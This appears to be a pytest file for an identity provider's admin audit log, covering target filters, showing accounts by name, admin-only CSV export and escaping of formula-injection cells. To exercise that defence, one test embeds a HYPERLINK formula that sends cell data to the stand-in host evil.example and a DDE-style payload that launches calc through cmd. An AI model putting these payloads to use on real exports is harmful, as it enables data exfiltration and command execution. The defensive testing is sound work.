"""Issue 15, audit log: accounts by name everywhere, a filter on whom an action was done to,
and a CSV export that a spreadsheet cannot be tricked into evaluating."""

from __future__ import annotations

import csv
import io

import pytest

from idp.services.audit_export import safe_cell
from tests.portal.test_admin_fixtures import browser_for, register, token_on, web_app


@pytest.fixture
def admin(app):
    return browser_for(app, "root", admin=True)


def disable(admin, user_id: int, reason: str = "Fraud report") -> None:
    token = token_on(admin, f"/admin/users/{user_id}")
    response = admin.post(
        f"/admin/users/{user_id}/disable", data={"csrf_token": token, "reason": reason}
    )
    assert response.status_code == 303


def test_audit_log_filters_by_whom_an_action_was_done_to(app, admin):
    carol, dave = register(app, "carol"), register(app, "dave")
    disable(admin, carol)
    disable(admin, dave)
    page = admin.get("/admin/audit?target=carol").get_data(as_text=True)
    assert page.count("<code>admin.user_disabled</code>") == 1
    assert f'<a href="/admin/users/{carol}">carol</a>' in page
    assert f'<a href="/admin/users/{dave}">dave</a>' not in page
    # The actor filter still finds both: root did them.
    by_actor = admin.get("/admin/audit?user=root&event=admin.user_disabled").get_data(as_text=True)
    assert by_actor.count("<code>admin.user_disabled</code>") == 2
    unknown = admin.get("/admin/audit?target=nobody")
    assert unknown.status_code == 400
    assert "No account has the username" in unknown.get_data(as_text=True)


def test_accounts_are_shown_by_name_on_the_user_and_app_pages(app, admin):
    carol = register(app, "carol")
    disable(admin, carol)
    user_page = admin.get(f"/admin/users/{carol}").get_data(as_text=True)
    events = user_page.split('class="stack events"', 1)[1]
    # The action done to carol is on her page, actor and target by name, no "#id".
    assert "<code>admin.user_disabled</code>" in events
    assert ">root</a>" in events and ">carol</a>" in events
    assert "#" + str(carol) not in events.split("</table>")[0]
    owned = web_app(app, carol)
    app_page = admin.get(f"/admin/apps/{owned.client_id}").get_data(as_text=True)
    table = app_page.split('class="stack events"', 1)[1].split("</table>")[0]
    assert "<code>client.created</code>" in table
    assert f">#{carol}<" not in table


def test_csv_export_follows_the_filters_and_names_accounts(app, admin):
    carol, dave = register(app, "carol"), register(app, "dave")
    disable(admin, carol)
    disable(admin, dave)
    response = admin.get("/admin/audit.csv?event=admin.user_disabled&target=carol")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert len(rows) == 1
    assert rows[0]["event"] == "admin.user_disabled" and rows[0]["user"] == "root"
    assert f"carol (#{carol})" in rows[0]["details"]


def test_csv_export_is_safe_against_formula_injection(app, admin):
    carol = register(app, "carol")
    disable(admin, carol, reason='=HYPERLINK("http://evil.example/?"&A1,"click")')
    browser = app.test_client()
    browser.get("/login", headers={"User-Agent": "@SUM(1+1)*cmd|' /C calc'!A0"})
    text = admin.get("/admin/audit.csv").get_data(as_text=True)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "HYPERLINK" in text  # kept, as text


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (None, ""),
        (42, "42"),
    ],
)
def test_safe_cell(raw, written):
    assert safe_cell(raw) == written


def test_csv_export_is_for_admins_only(app):
    stranger = browser_for(app, "eve")
    assert stranger.get("/admin/audit.csv").status_code == 404
